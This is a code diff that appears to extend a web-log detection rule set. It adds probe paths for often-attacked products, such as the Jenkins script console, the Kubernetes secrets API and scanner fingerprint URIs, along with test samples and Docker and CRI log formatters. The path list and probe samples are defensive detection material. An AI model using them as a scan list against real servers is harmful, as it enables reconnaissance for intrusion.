-  pre=pf("/crx/|/libs/|querybuilder|/system/|/etc/|/vpn|logonpoint|citrix|/tmui/|/mgmt/|/remote/|global-protect|ssl-vpn|/dana-|cscoe|/owa/|/ecp/|autodiscover|vsphere|vropspluginui|/sdk|/mifs/|jmx-console|wls-wsat|_async|/console/|actuator|_ignition|telescope|/solr/|hnap1|boaform|gponform|ctrlt|hedwig|getcfg|weblanguage|/doc/page/|goform|/webui/|/cgi-bin/|/cgi/|/api/v1/|containers/json|kibana|jsonws|jolokia|druid|nacos|seeyon|weaver|zimbra|/service/|confluence|createpage|tinymce|/s/|servicedesk|/plugins/servlet/|phpunit|/level/|cgi-mod|redlion|webtools|ofbiz|nifi-api|geoserver|showcase|jmxinvoker|/manager/text/|/evox/|/vpns/|/php/login|/ui/login".split("|")),
+  pre=pf("/crx/|/libs/|querybuilder|/system/|/etc/|/vpn|logonpoint|citrix|/tmui/|/mgmt/|/remote/|global-protect|ssl-vpn|/dana-|cscoe|/owa/|/ecp/|autodiscover|vsphere|vropspluginui|/sdk|/mifs/|jmx-console|wls-wsat|_async|/console/|actuator|_ignition|telescope|/solr/|hnap1|boaform|gponform|ctrlt|hedwig|getcfg|weblanguage|/doc/page/|goform|/webui/|/cgi-bin/|/cgi/|/api/v1/|containers/json|kibana|jsonws|jolokia|druid|nacos|seeyon|weaver|zimbra|/service/|confluence|createpage|tinymce|/s/|servicedesk|/plugins/servlet/|phpunit|/level/|cgi-mod|redlion|webtools|ofbiz|nifi-api|geoserver|showcase|jmxinvoker|/manager/text/|/evox/|/vpns/|/php/login|/ui/login|script|nmaplowercheck|y000000000000".split("|")),
   filt="uri =~ " + q(TECH) + ", " + ST404,
   summary="probe for {{ $labels.uri }} (a product this server does not run) from {{ $labels.src_ip }}",
-  desc="Request for the path of a product that is often attacked (AEM, Citrix, F5, FortiGate, GlobalProtect, Pulse, Cisco ASA, Exchange, vCenter, WebLogic, JBoss, Spring actuator, Laravel, Solr, IoT/router CGIs, Kubernetes and Docker APIs, Confluence, Liferay, ...) that the server does not have (404, 403 or 410).",
+  desc="Request for the path of a product that is often attacked (AEM, Citrix, F5, FortiGate, GlobalProtect, Pulse, Cisco ASA, Exchange, vCenter, WebLogic, JBoss, Spring actuator, Laravel, Solr, IoT/router CGIs, Kubernetes and Docker APIs, Confluence, Liferay, Jenkins' script console, ...) or a scanner's fingerprint path (Nmap's /nmaplowercheck, Polycom's y000000000000.cfg) that the server does not have (404, 403 or 410). VMware /sdk, the Kubernetes API and /script count at the server's root only.",
   pos=[{"uri": "/cgi-bin/videoconfiguration.cgi", "status": "404"}, {"uri": "/crx/packmgr/service.jsp", "status": "403"},
-       {"uri": "/remote/login?lang=en", "status": "404"}, {"uri": "/actuator/health", "status": "404"}, {"uri": "/HNAP1/", "status": "404"}],
+       {"uri": "/remote/login?lang=en", "status": "404"}, {"uri": "/actuator/health", "status": "404"}, {"uri": "/HNAP1/", "status": "404"},
+       {"uri": "/sdk", "status": "404", "method": "POST"}, {"uri": "/api/v1/namespaces/kube-system/secrets", "status": "403"},
+       {"uri": "/api/v1/pods", "status": "404"}, {"uri": "/hudson/script", "status": "404"}, {"uri": "/script", "status": "404"},
+       {"uri": "/nmaplowercheck1606003956", "status": "404"}, {"uri": "/pv/y000000000000.cfg", "status": "404"}],
   neg=[{"uri": "/some/random/path", "status": "404"}, {"uri": "/actuator/health", "status": "200"}, {"uri": "/cgi-bin/status.cgi", "status": "200"},
-       {"uri": "/blog/solrcloud-notes", "status": "404"}]),
+       {"uri": "/blog/solrcloud-notes", "status": "404"}, {"uri": "/docs/sdk/python/install", "status": "404"},
+       {"uri": "/api/v1/nodes/42", "status": "404"}, {"uri": "/scripts/app.js", "status": "404"}, {"uri": "/blog/script", "status": "404"},
+       {"uri": "/sdkman/install", "status": "404"}]),
  dict(name="WebScannerUserAgent", sev="low", tactic="reconnaissance", tech="T1595.002",
   pre=pf(UA_WORDS),
   filt="user_agent =~ " + q(SCANNER_UA),
@@ -670,7 +728,15 @@ def f_5424(d):
     return "<190>1 2024-06-01T00:00:00+00:00 web1 nginx 812 - - " + f_combined(d)
 
 
-FORMATTERS = [f_combined, f_json, f_vhost_port, f_common, f_syslog, f_vhost, f_iso, f_5424]
+def f_docker(d):   # docker logs --timestamps
+    return "2024-06-01T00:00:00.123456789Z " + f_combined(d) + ' "-"'
+
+
+def f_cri(d):   # Kubernetes CRI log file
+    return "2024-06-01T00:00:00.123456789Z stdout F " + f_combined(d) + ' "-"'
+
+
+FORMATTERS = [f_combined, f_json, f_vhost_port, f_common, f_syslog, f_vhost, f_iso, f_5424, f_docker, f_cri]
 
 
 def render(samples, start=0):
